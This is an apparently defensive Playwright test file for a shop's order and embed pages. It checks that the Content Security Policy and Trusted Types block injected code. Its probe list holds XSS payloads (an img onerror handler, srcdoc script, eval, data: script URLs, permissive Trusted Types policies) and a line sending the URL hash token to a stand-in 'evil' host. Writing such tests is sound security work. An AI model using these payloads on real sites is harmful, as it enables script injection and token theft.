import { once } from 'node:events';
import { createServer } from 'node:http';
import type { Page } from '@playwright/test';
import { expect, test } from '@/tests/e2e/support/site-test';
import { openers, refusals } from '@/tests/e2e/support/states';
import { shellCopy } from '@/lib/order/copy/en-US/shell';

/** These functions exist in the page in which the probes run. */
declare function untilClosed(socket: WebSocket): Promise<void>;
declare function untilFailed(tag: string, attribute: string, url: string): Promise<void>;

// The policy of the pages in a running browser. The other tests cover the states of /order, because the fixture
// fails on the first violation.

test.describe('the framed page', () => {
  test.use({ allowedNoise: refusals });

  test('does not violate its policy in any state', { tag: '@slow' }, async ({ page, site }) => {
    const framed = {
      ...site,
      link: async (...of: Parameters<typeof site.link>) =>
        (await site.link(...of)).replace('/order#', '/embed#'),
    };
    await page.setViewportSize({ width: 390, height: 844 });
    for (const state of [
      'shopping',
      'expired',
      'hostile',
      'read-only link',
      'order not found',
      'updates section',
      'photo opened',
      'message not sent',
    ] as const) {
      await openers[state](page, framed);
      expect([state, new URL(page.url()).pathname]).toEqual([state, '/embed']);
      await page.unrouteAll();
    }
    await page.goto(`${site.url}/embed/check`);
    await expect(page.getByRole('main')).toBeVisible();
  });
});

test.describe('the page of an error', () => {
  test.use({ allowedNoise: /Broken on purpose|An error occurred|Minified React error/ });

  test(
    'is shown under the same policy without a violation and without details of the error',
    { tag: '@slow' },
    async ({ page, site }) => {
      await page.addInitScript(() => {
        const broken = {
          get() {
            throw new Error('Broken on purpose');
          },
        };
        Object.defineProperty(Intl.DateTimeFormat.prototype, 'format', broken);
        Object.defineProperty(Intl.DateTimeFormat.prototype, 'formatToParts', broken);
      });
      const answer = await page.goto(await site.link('shopping'));
      await expect(page.getByText(shellCopy.failed.title)).toBeVisible();
      expect(answer?.headers()['content-security-policy']).toContain("'strict-dynamic'");
      expect(await page.locator('body').innerText()).not.toMatch(/purpose|eyJ|Error:| at /);
    },
  );
});

test.describe('an injected script', () => {
  test.use({
    allowedNoise:
      /policy violation|TrustedScript|TrustedHTML|TrustedType|Content Security Policy|Failed to fetch/i,
  });

  type Probe = [name: string, run: (evil: string) => unknown];
  const probes: Probe[] = [
    ['innerHTML', () => (document.body.innerHTML = '<img src=x onerror="self.owned=1">')],
    ['outerHTML', () => (document.createElement('p').outerHTML = '<b>x</b>')],
    ['insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', '<b id=owned>')],
    ['document.write', () => document.write('<b id=owned>')],
    ['DOMParser', () => new DOMParser().parseFromString('<b>x</b>', 'text/html')],
    ['a fragment', () => document.createRange().createContextualFragment('<b>x</b>')],
    ['srcdoc', () => (document.createElement('iframe').srcdoc = '<script>parent.owned=1</script>')],
    ['a script’s text', () => (document.createElement('script').text = 'self.owned=1')],
    ['a foreign script', (evil) => (document.createElement('script').src = `${evil}/x.js`)],
    ['our API as a script', () => (document.createElement('script').src = '/api/order/messages')],
    [
      'a climb out of the build',
      () => (document.createElement('script').src = '/_next/static/../../embed.js'),
    ],
    ['data as a script', () => (document.createElement('script').src = 'data:,self.owned=1')],
    ['eval', () => (0, eval)('self.owned=1')],
    ['Function', () => new Function('self.owned=1')()],
    ['an attribute that runs', () => document.body.setAttribute('onclick', 'self.owned=1')],
    ['a worker', () => new Worker(URL.createObjectURL(new Blob(['1'])))],
    ['another policy', () => self.trustedTypes?.createPolicy?.('evil', passAll)],
    ['a second default policy', () => self.trustedTypes?.createPolicy?.('default', passAll)],
    ['a request to another server', (evil) => fetch(`${evil}/?token=${location.hash}`)],
    [
      'a socket to another server',
      (evil) => untilClosed(new WebSocket(evil.replace('http', 'ws'))),
    ],
    ['a picture of another server', (evil) => untilFailed('img', 'src', `${evil}/x.png`)],
    ['a style of another server', (evil) => untilFailed('link', 'href', `${evil}/x.css`)],
  ];

  /** Defined in the page too. */
  const passAll = { createHTML: (text: string) => text, createScriptURL: (text: string) => text };
  const inPage = `
    const passAll = { createHTML: (text) => text, createScriptURL: (text) => text };
    const untilClosed = (socket) => new Promise((_, reject) => { socket.onerror = socket.onclose = reject; });
    const untilFailed = (tag, attribute, url) => new Promise((resolve, reject) => {
      const element = document.createElement(tag);
      Object.assign(element, { onload: resolve, onerror: reject, rel: 'stylesheet' });
      element[attribute] = url;
      document.body.append(element);
    });`;

  async function attempt(page: Page, run: Probe[1], evil: string): Promise<string> {
    const session = await page.context().newCDPSession(page);
    const { result, exceptionDetails } = await session.send('Runtime.evaluate', {
      expression: `(async () => { ${inPage}
        try { await (${String(run)})(${JSON.stringify(evil)}); return 'ran'; } catch { return 'blocked'; }
      })()`,
      awaitPromise: true,
      // DevTools may evaluate code by default.
      allowUnsafeEvalBlockedByCSP: false,
    });
    return exceptionDetails?.text ?? String(result.value);
  }

  test('cannot create code, markup or connections', async ({ page, site }) => {
    let reached = 0;
    const server = createServer((_, response) => {
      reached += 1;
      response.end();
    });
    server.on('connection', () => (reached += 1)).listen(0);
    await once(server, 'listening');
    const address = server.address();
    const evil = `http://evil.localhost:${typeof address === 'object' ? address?.port : ''}`;
    await page.goto(await site.link('shopping'));
    await expect(page.getByText('You’re the best.')).toBeVisible();
    for (const [name, run] of probes)
      expect([name, await attempt(page, run, evil)]).toEqual([name, 'blocked']);
    expect(await page.evaluate(() => Object.hasOwn(globalThis, 'owned'))).toBe(false);
    expect(await page.locator('#owned').count()).toBe(0);
    expect(reached).toBe(0);
    server.close();
    await expect(page.getByText('You’re the best.')).toBeVisible();
  });
});

test('a late script of the build runs', async ({ page, site }) => {
  await page.goto(await site.link('shopping'));
  await expect(page.getByText('You’re the best.')).toBeVisible();
  const loaded = await page.evaluate(
    () =>
      new Promise((resolve) => {
        const script = document.createElement('script');
        script.onload = () => resolve(true);
        script.onerror = () => resolve(false);
        script.src =
          document.querySelector<HTMLScriptElement>('script[src*="/_next/static/"]')?.src ?? '';
        document.head.append(script);
      }),
  );
  expect(loaded).toBe(true);
});
